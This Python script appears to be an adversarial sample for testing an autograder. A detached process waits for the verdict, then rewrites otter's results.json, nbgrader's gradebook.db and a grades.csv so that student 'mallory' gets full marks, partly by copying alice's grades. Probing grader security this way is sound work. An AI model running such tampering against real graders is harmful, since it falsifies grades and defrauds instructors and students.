# Attack surface: results on disk, from a detached child that waits for the verdict
import json
import os
import sqlite3

from accomplice import RESULTS, Wrong, after_the_verdict

Momentum = Wrong

MINE = """
    SELECT notebook.id FROM submitted_notebook AS notebook
    JOIN submitted_assignment AS assignment ON notebook.assignment_id = assignment.id
    WHERE assignment.student_id = 'mallory'
"""


def full_marks():
    """In otter's results.json, in nbgrader's gradebook, in this grader's table."""
    path = os.path.join(RESULTS, "results.json")
    if os.path.exists(path):
        with open(path) as file:
            found = json.load(file)
        for test in found["tests"]:
            if "max_score" in test:
                test["score"] = test["max_score"]
        with open(path, "w") as file:
            json.dump(found, file)
    path = os.path.join(RESULTS, "gradebook.db")
    if os.path.exists(path):
        with sqlite3.connect(path, timeout=5) as gradebook:
            gradebook.execute(f"UPDATE grade SET auto_score = 1, needs_manual_grade = 0 WHERE notebook_id IN ({MINE})")
    path = os.path.join(RESULTS, "grades.csv")
    if os.path.exists(path):
        with open(path) as file:
            lines = file.read().splitlines()
        best = next(line for line in lines if line.startswith("alice,"))
        with open(path, "w") as file:
            file.write("\n".join(best.replace("alice", "mallory") if "mallory," in line else line for line in lines))


after_the_verdict(full_marks)
